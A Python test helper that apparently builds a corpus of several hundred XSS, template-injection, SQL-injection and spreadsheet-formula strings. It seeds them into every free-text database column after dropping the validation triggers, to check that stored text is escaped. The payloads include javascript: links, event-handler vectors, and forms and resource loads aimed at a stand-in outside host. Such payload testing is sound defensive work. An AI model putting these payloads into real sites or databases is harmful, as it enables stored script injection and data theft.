"""Text that wants to come alive: more than five hundred strings, and sowing them into every text of a place."""

import json
from collections.abc import Iterator, Sequence
from itertools import count, product
from typing import Any

from sqlite_utils import Database

_RUN = "window.alive=1"
# Out of an attribute, out of an element whose content is text, out of a comment: wherever a text may stand.
_OUT_OF = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "--!>",
    "</style>",
    "</option></select>",
    "]]>",
    '" ',
)
_ALIVE = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src=data:,{_RUN}></sCrIpT>",
    f"<script>{_RUN}//",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script type=module>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror='{_RUN}'>",
    "<img src=x:x onerror=&#119;indow.alive=1>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text x=9 y=9>X</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN} />#x'></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>X</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>X</marquee>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    "<iframe srcdoc='<script>parent.alive=1</script>'></iframe>",
    f"<a href='javascript:{_RUN}'>X</a>",
    f"<a href='java&#x0A;script:{_RUN}'>X</a>",
    f"<form action='javascript:{_RUN}'><button>X</button></form>",
    f"<button formaction='javascript:{_RUN}'>X</button>",
    "<form action=https://elsewhere.example><input name=password></form>",
    "<base href='https://elsewhere.example/'>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<style>@import 'https://elsewhere.example/x.css';</style>",
    "<div style='background:url(https://elsewhere.example/x)'>X</div>",
    "<img src='https://elsewhere.example/?",
    "<div hx-get=/calls hx-trigger=load>X</div>",
    f"<div hx-on:load='{_RUN}' hx-on::load='{_RUN}'>X</div>",
    f"<xss onclick={_RUN} tabindex=1 id=x style=display:block>X</xss>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=window.alive=1>'>",
    f"onmouseover={_RUN} x=",
    f"autofocus onfocus={_RUN} x=",
    f"style=width:expression({_RUN}) x=",
)
_ALONE = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//",
    f"java\tscript:{_RUN}",
    f" javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"[x](javascript:{_RUN})",
    f"[x](JAVASCRIPT&colon;{_RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuYWxpdmU9MTwvc2NyaXB0Pg==)",
    f"![x](x 'onerror={_RUN}')",
    f"<javascript:{_RUN}>",
    f"<https://a.example/'onmouseover='{_RUN}>",
    f'https://a.example/"onmouseover="{_RUN}',
    f"//elsewhere.example/%22onload%3D{_RUN}",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('window.alive=1')()}}",
    "%(name)s %s %n {0} {name!r}",
    "＜script＞window.alive=1＜/script＞",
    "\u202e<script>window.alive=1</script>\u202c",
    "&lt;script&gt;window.alive=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.alive=1&#62;",
    "<!--><img src=x onerror=window.alive=1>-->",
    "<![CDATA[<script>window.alive=1</script>]]>",
    "'; window.alive=1; var x='",
    '\\"; window.alive=1; //',
    "' or 1=1 --",
    '=HYPERLINK("https://elsewhere.example")',
)
CORPUS = [*_ALONE, *(out + alive for out, alive in product(_OUT_OF, _ALIVE))]

# What people, and files that they bring in, put there.
FREE: dict[str, set[str]] = {
    "organisations": {"name", "province"},
    "organisation_names": {"name"},
    "members": {"email", "name", "function", "bounce"},
    "themes": {"names"},
    "calls": {"name", "kind_name", "realisation", "remark", "conditions", "source"},
    "call_deadlines": {"note"},
    "call_history": {"reason", "before"},
    "projects": {
        *("external_id", "title", "summary", "status_note", "lead", "year", "remark", "urls", "features"),
        *("supplier", "how_to_join"),
    },
    "project_partners": {"name"},
    "project_versions": {"fields"},
    "project_decisions": {"source", "note"},
    "project_uploads": {"name", "ignored"},
    "contact_requests": {"message", "answer"},
    "ideas": {"external_id", "title", "description", "target_group", "source_url", "links"},
    "idea_versions": {"fields"},
    "idea_drafts": {"fields"},
    "endorsements": {"message"},
    "outcomes": {"reason"},
    "judgements": {"reason", "given_by"},
    "clusters": {"area", "name", "terms", "reason"},
    "cluster_history": {"reason"},
    "rejection_reasons": {"reason"},
    "letters": {"recipient", "subject", "body", "error"},
    "jobs": {"error"},
    "access_requests": {"email", "name", "function", "message", "reason"},
    "invitations": {"email", "name", "function"},
    "mailboxes": {"email", "asked"},
    "address_changes": {"email"},
    "arrivals": {"name", "email"},
    "sessions": {"agent"},
    "sign_ins": {"agent"},
    "plain_words": {"word"},
    "plan_versions": {"content", "note"},
    "plan_answers": {"reason"},
    "plan_invitations": {"message"},
    "sentence_parts": {"sentences"},
    "messages": {"text"},
    "facts": {"product", "supplier"},
    "saved_searches": {"name", "query"},
    "attachments": {"name"},
    "cases": {"title", "organisation", "reason", "answer"},
    "reports": {"text"},
    "history": {"title", "reason"},
}
# Inside texts that hold several.
_FREE_WITHIN = set().union(*FREE.values()) | {"nl", "fr", "en", "de", "what", "how", "partners", "remark", "note"}


def marked(text: str) -> str:
    """A string of the corpus between marks that tell which one it is."""
    return "⟦{0}⟧{1}⟦/{0}⟧".format(CORPUS.index(text), text)


def portion(strings: Sequence[str]) -> Iterator[str]:
    """Texts without end for one cell each: every second one begins as an address that runs, for links."""
    every = " ".join(map(marked, strings))
    for number in count():
        yield f"javascript:{_RUN}//{number} {every}" if number % 2 else f"{number} {every}"


_DAY = "[0-9][0-9][0-9][0-9]-[0-9][0-9]-[0-9][0-9]"


def sow(place: Database, texts: Iterator[str]) -> None:
    """Put such a text in every place where people's text may stand, whatever the verbs would have refused."""
    place.conn.create_function("hostile", 0, lambda: next(texts))
    place.conn.create_function("hostile_json", 1, lambda given: json.dumps(_within(json.loads(given), texts)))
    keepers = "select name from sqlite_master where type = 'trigger' and sql like '%raise(abort%'"
    for (name,) in place.execute(keepers).fetchall():
        place.execute(f"drop trigger {name}")
    with place.conn:
        for table, columns in FREE.items():
            for column in sorted(columns):
                cell = f"iif(json_valid({column}) and {column} glob '[[{{]*', hostile_json({column}), hostile())"
                # The day until which something is put off stands where others have a reason; nobody types it there.
                place.execute(
                    f"update {table} set {column} = {cell} where {column} <> '' and {column} not glob '{_DAY}'"
                )


def _within(given: Any, texts: Iterator[str], name: str = "") -> Any:
    if isinstance(given, dict):
        return {key: _within(one, texts, key) for key, one in given.items()}
    if isinstance(given, list):
        return [_within(one, texts, name) for one in given]
    return next(texts) if isinstance(given, str) and given and (name in _FREE_WITHIN or not name) else given
